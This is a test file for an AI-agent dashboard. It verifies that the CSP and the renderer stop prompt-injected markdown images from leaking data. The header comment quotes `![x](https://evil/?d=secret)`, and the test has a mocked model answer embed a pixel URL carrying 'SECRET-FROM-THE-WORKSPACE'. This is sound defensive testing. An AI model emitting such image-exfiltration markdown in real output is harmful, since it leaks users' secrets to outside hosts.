/**
 * The dashboard cannot be used to carry data out through an image URL. Its CSP lets images come
 * only from this origin (signed workspace files) and data: URLs; and the dashboard shows an image
 * hosted elsewhere as a link, so a prompt-injected answer like `![x](https://evil/?d=secret)` is
 * never fetched — and does not trip a CSP violation either. In Debian's Chromium: a task's answer
 * carries an external image (a local server on another origin, counting its requests) and a
 * workspace image the agent wrote; opened from the session list, the external one renders as a
 * link, no request reaches it, the workspace one loads as an <img>, and the console stays clean
 * (no CSP violation: test/helpers/browser.ts also listens for securitypolicyviolation events).
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import bundle from "../../web/dist/bundle.json" with { type: "json" };
import { createProfile, submit, waitTask } from "../helpers/agent.ts";
import { startTestApp, type TestApp } from "../helpers/app.ts";
import { type Browser, expectClean, launchBrowser, openPage, type WatchedPage } from "../helpers/browser.ts";
import { type MockProviderServer, startMockAnthropic } from "../helpers/mock-anthropic.ts";
import { createUser, type TestUser } from "../helpers/users.ts";

let t: TestApp;
let mock: MockProviderServer;
let user: TestUser;

beforeAll(async () => {
  t = await startTestApp();
  mock = startMockAnthropic();
  user = await createUser(t);
});
afterAll(async () => {
  await t.stop();
  await mock.stop();
});

const directives = (csp: string) => new Map(csp.split(";").map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k!, v] as const));

/** The dashboard's pages and its hashed assets (web/dist/bundle.json, built by the test preload). */
const ASSETS = Object.keys((bundle as { assets: Record<string, unknown> }).assets).map((name) => `/assets/${name}`);

describe("the header", () => {
  test.each(["/", "/setup", "/sessions/sess_any", ...ASSETS])("%s: img-src is exactly 'self' data:", async (path) => {
    const res = await t.fetch(path);
    expect(res.status).toBe(200);
    const csp = directives(res.headers.get("content-security-policy")!);
    expect(csp.get("img-src")).toEqual(["'self'", "data:"]);
    expect(csp.get("default-src")).toEqual(["'none'"]);
    expect(csp.get("connect-src")).toEqual(["'self'"]);
    for (const [, sources] of csp) for (const src of sources) expect(["http:", "https:", "*"]).not.toContain(src);
  });
});

describe("in the browser", () => {
  let browser: Browser;
  let watched: WatchedPage;
  /** Every request the external image host saw. */
  const hits: string[] = [];
  let external: ReturnType<typeof Bun.serve>;

  beforeAll(async () => {
    external = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch(req) {
        hits.push(req.url);
        return new Response(Buffer.from("R0lGODlhAQABAAAAACw=", "base64"), { headers: { "content-type": "image/gif" } });
      },
    });
    browser = await launchBrowser();
    // Signed in with the user's cookie; console errors, page errors and CSP violations are problems.
    watched = await openPage(browser, { url: t.url, cookie: user.cookie });
    // Every request the page makes, wherever it goes.
    watched.page.on("request", (r) => {
      if (!r.url().startsWith(t.url) && !r.url().startsWith(t.wsUrl)) watched.problems.push(`request elsewhere: ${r.url()}`);
    });
  });
  afterAll(async () => {
    await browser?.close();
    external?.stop(true);
  });

  test("an external image in a result is shown as a link and never fetched; a workspace image loads; no CSP violation", async () => {
    const { page, problems } = watched;
    const leak = `http://127.0.0.1:${external.port}/pixel.gif?d=SECRET-FROM-THE-WORKSPACE`;
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="teal"/></svg>';
    const profileId = await createProfile(t, user, { mock, tools: ["Write"] });
    mock.reset();
    mock.enqueue(
      { toolCalls: [{ name: "Write", input: { file_path: "/workspace/out/chart.svg", content: svg } }] },
      { text: `Here is the chart: ![chart](out/chart.svg)\n\nAnd a tracking pixel: ![pixel](${leak})` },
    );
    const { task_id, session_id } = await submit(t, user, { profile_id: profileId, prompt: "Chart it" });
    const task = await waitTask(t, user, task_id);
    expect(task.status).toBe("completed");
    expect(task.result_text).toContain(`![pixel](${leak})`);

    // Opened from the session list, as a user would.
    await page.goto(t.url);
    await page.getByRole("navigation", { name: "Sessions" }).getByRole("link", { name: /Chart it/ }).click();
    await page.waitForURL(`${t.url}/sessions/${session_id}`);
    const turn = page.getByRole("article").last();
    await turn.getByText(/^[\d,]+ in · [\d,]+ out · \$[\d.]+$/).waitFor({ timeout: 30_000 });

    // The external image is a link to it, not an <img>.
    const link = turn.getByRole("link", { name: /pixel/ });
    expect(await link.count()).toBe(1);
    expect(await link.getAttribute("href")).toBe(leak);
    expect(await link.getAttribute("target")).toBe("_blank");
    expect(await page.locator(`img[src^="http://127.0.0.1:${external.port}"]`).count()).toBe(0);

    // The workspace image, signed and same-origin, is an <img> that loaded.
    const img = turn.getByRole("img", { name: "chart" });
    expect(await img.count()).toBe(1);
    expect(await img.getAttribute("src")).toStartWith(`${t.url}/files/`);
    await img.scrollIntoViewIfNeeded(); // it loads lazily
    await page.waitForFunction(() => {
      const el = document.querySelector<HTMLImageElement>('article img[alt="chart"]');
      return !!el && el.complete && el.naturalWidth > 0;
    });

    await Bun.sleep(300);
    expect(hits).toEqual([]);
    expectClean(problems);
  }, 120_000);
});
